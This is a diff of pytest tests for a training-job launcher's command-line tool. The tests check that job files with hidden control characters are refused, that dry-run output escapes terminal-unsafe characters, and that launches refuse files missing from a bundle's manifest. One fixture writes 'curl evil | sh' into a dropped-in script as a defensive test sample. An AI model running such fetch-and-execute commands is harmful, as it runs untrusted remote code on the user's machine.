@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -96,3 +97,61 @@ def test_out_dot_runs_in_an_empty_working_directory(tmp_path, capsys, monkeypatc
     assert (tmp_path / "here" / "run.json").is_file()
     assert not [p.name for p in (tmp_path / "here").iterdir() if "lock" in p.name]  # beside it, never inside
     assert (tmp_path / ".here.pcc-lock").is_file()
+
+
+# -- 3. dry runs: every printed word shows what runs; job files hold printable text -------------------------
+
+@pytest.mark.parametrize("char, named", [("\x1b", "U+001B"), ("\r", "line endings?"), ("\x00", "U+0000"),
+                                         ("\u00a0", "NO-BREAK SPACE"), ("\u200b", "ZERO WIDTH SPACE")],
+                         ids=["esc", "cr", "nul", "nbsp", "zwsp"])
+@pytest.mark.parametrize("framework, line", [("miles", "--num-rollout 3{c}"), ("verl", "data.train_files=a{c}b")])
+def test_a_job_file_with_a_hidden_character_is_refused_at_load(bundles, tmp_path, capsys, monkeypatch, char, named,
+                                                              framework, line):
+    job = tmp_path / "job"
+    job.write_text("# the job\n" + line.format(c=char) + "\n")
+    monkeypatch.setenv("PCC_MILES_JOB" if framework == "miles" else "PCC_VERL_JOB", str(job))
+    code, env = _envelope(capsys, ["run", str(bundles / framework), "--target", framework, "--dry-run"])
+    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC717"], env
+    message = _errors(env)[0]["message"]
+    assert f"{job}:2: " in message and named in message and char not in message
+
+
+@pytest.mark.parametrize("framework, arg", [("miles", "--x=a\x1b[2Jb"), ("verl", "trainer.x=a\rb\u00a0c'd")])
+def test_a_dry_run_escapes_what_a_terminal_would_not_show(bundles, capsys, monkeypatch, framework, arg):
+    monkeypatch.delenv("PCC_MILES_JOB", raising=False)
+    monkeypatch.delenv("PCC_VERL_JOB", raising=False)
+    assert main(["run", str(bundles / framework), "--target", framework, "--dry-run", "--", arg]) == 0
+    command = capsys.readouterr().out.rstrip("\n").split("\n")[-1]
+    assert command.isprintable(), command  # no raw ESC, CR or no-break space reaches the terminal
+    word = command.rsplit(" ", 1)[-1]
+    assert word.startswith("$'")
+    shell = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
+    assert shell.stdout.decode() == arg  # pasted, the printed word is the argument that runs
+
+
+# -- 4. a launch runs only what the bundle's manifest lists ------------------------------------------------
+
+def _add_verl(bundle: Path, bundles: Path) -> None:
+    shutil.copytree(bundles / "verl" / "verl", bundle / "verl")
+
+
+def _add_miles(bundle: Path, bundles: Path) -> None:
+    shutil.copytree(bundles / "miles" / "miles", bundle / "miles")
+
+
+def _drop_file(bundle: Path, bundles: Path) -> None:
+    (bundle / "miles" / "extra.sh").write_text("curl evil | sh\n")
+
+
+@pytest.mark.parametrize("base, add, framework, text", [
+    ("miles", _add_verl, "verl", "verl/launch.sh, verl/overrides.txt: not in its manifest"),
+    ("verl", _add_miles, "miles", "miles/args.txt, miles/launch.sh, miles/model_args.txt, ...: not in its manifest"),
+    ("miles", _drop_file, "miles", "miles/extra.sh: not in its manifest"),
+], ids=["verl-folder-added", "miles-folder-added", "file-dropped-in"])
+def test_a_launch_runs_only_what_the_manifest_lists(bundles, tmp_path, capsys, base, add, framework, text):
+    bundle = _copy(bundles, base, tmp_path)
+    add(bundle, bundles)
+    code, env = _envelope(capsys, ["run", str(bundle), "--target", framework, "--dry-run"])
+    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC706"], env
+    assert text in _errors(env)[0]["message"]
+    assert env.get("result") is None  # nothing printed to run
